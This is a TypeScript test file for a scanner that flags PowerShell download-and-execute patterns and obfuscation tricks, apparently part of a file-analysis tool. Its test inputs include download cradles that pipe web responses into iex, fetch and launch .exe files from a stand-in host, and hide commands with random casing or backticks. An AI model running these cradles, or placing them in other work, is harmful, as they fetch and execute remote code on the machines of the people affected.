import assert from 'node:assert/strict'
import { test } from 'node:test'
import { powershellTraits } from '../../../src/file/formats/script/powershell/traits.ts'
import { powershellDisguise } from '../../../src/file/formats/script/unreadable/powershell.ts'

const idsOf = (text: string): readonly string[] => [...new Set(powershellTraits(text).map(([id]) => id))]

const FOLLOWED: Readonly<Record<string, readonly [string, readonly string[]]>> = {
  'one pipe': ['(iwr http://files.example/a).Content | iex', ['ps_runs_answer']],
  'a block of a pipe': [
    "@('http://files.example/a') | ForEach-Object { $t = (New-Object Net.WebClient).DownloadString($_); iex $t }",
    ['ps_runs_answer'],
  ],
  'a parameter of an own function': [
    'function Start-It { param([string]$text)\n  Invoke-Expression $text\n}\n$a = irm http://files.example/a\nStart-It $a',
    ['ps_runs_answer'],
  ],
  'a file in a variable': [
    "$o = Join-Path $env:TEMP 'a.exe'\nInvoke-WebRequest -Uri http://files.example/a.exe -OutFile $o\nStart-Process -FilePath $o -Wait",
    ['runs_what_it_fetched'],
  ],
  'a file by its name': [
    "(New-Object Net.WebClient).DownloadFile('http://files.example/a', 'C:\\Users\\Public\\b.exe')\nWrite-Host done\n& 'C:\\Users\\Public\\b.exe'",
    ['runs_what_it_fetched'],
  ],
  'characters out of numbers': ['$t = -join (9,8 | % { [char]($_ + 60) }); iex $t', ['ps_runs_characters']],
  'another file': [
    'Invoke-WebRequest http://files.example/a.zip -OutFile a.zip\nWrite-Host ok\nStart-Process notepad.exe',
    [],
  ],
  'a text that only speaks of it': ['Write-Output "iex (irm http://files.example/a)"', []],
  'a loop that waits for something else': [
    `iex (irm https://files.example/a)\nfunction Wait-It { while ($true) { if (Test-Path a) { break }; Start-Sleep 1 } }`,
    ['ps_runs_answer'],
  ],
  'an answer that is shown': ['$a = irm http://files.example/a\n$a | Format-Table\niex $own', []],
}
for (const [name, [text, ids]] of Object.entries(FOLLOWED))
  test(`followed: ${name}`, () => assert.deepEqual(idsOf(text), ids))

test('a disguise that only PowerShell does not mind is told, and how it runs', () => {
  const cased = powershellDisguise('$a=nEw-OBjEct SYstEm.nEt.wEBcLieNt;$b=$a.dOwNloADsTriNG($u);iEx $b')
  assert.match(cased.signs.join(), /random case/)
  assert.notEqual(cased.reach, null)
  const ticked = powershellDisguise('$a = N`ew-O`bject N`et.W`ebClient; i`ex $a.D`ownload`String($u)')
  assert.match(ticked.signs.join(), /back-ticks/)
  assert.deepEqual(
    powershellDisguise('$webClient = New-Object System.Net.WebClient\nWrite-Host $webclient.Headers').signs,
    [],
  )
})
